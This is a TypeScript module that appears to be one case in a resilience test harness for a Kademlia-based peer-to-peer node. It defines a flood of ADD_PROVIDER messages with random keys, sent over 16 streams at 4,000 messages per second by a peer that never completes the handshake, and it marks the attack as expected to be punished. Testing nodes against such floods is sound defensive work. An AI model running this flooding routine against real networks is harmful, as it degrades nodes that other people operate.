/** ADD_PROVIDER over sixteen streams at half a megabyte a second, by a peer that never greeted. */

import { randomBytes } from "node:crypto";
import { type Attack, atRate, keepOpening, persist, sideBySide } from "../attack.ts";
import { nameOf, pour } from "../peer.ts";
import { field, KAD, kademlia } from "../wire.ts";

const STREAMS = 16;
const KEY_BYTES = 64;
const PER_SECOND = 4_000;

export const attack: Attack = {
  claim: "ADD_PROVIDER over 16 streams, not greeted",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (peer) => {
        const provider = field(9, field(1, peer.node.peerId.toMultihash().bytes));
        await sideBySide(STREAMS, () =>
          keepOpening(context, peer, nameOf(context.target.chain, "kad"), (stream) =>
            atRate(context, PER_SECOND / STREAMS, async () => {
              const key = Buffer.concat([Buffer.from([1, 0x55, 0, KEY_BYTES]), randomBytes(KEY_BYTES)]);
              context.count("messages");
              return await pour(stream, kademlia(KAD.addProvider, key, provider));
            }),
          ),
        );
      },
      false,
    ),
};
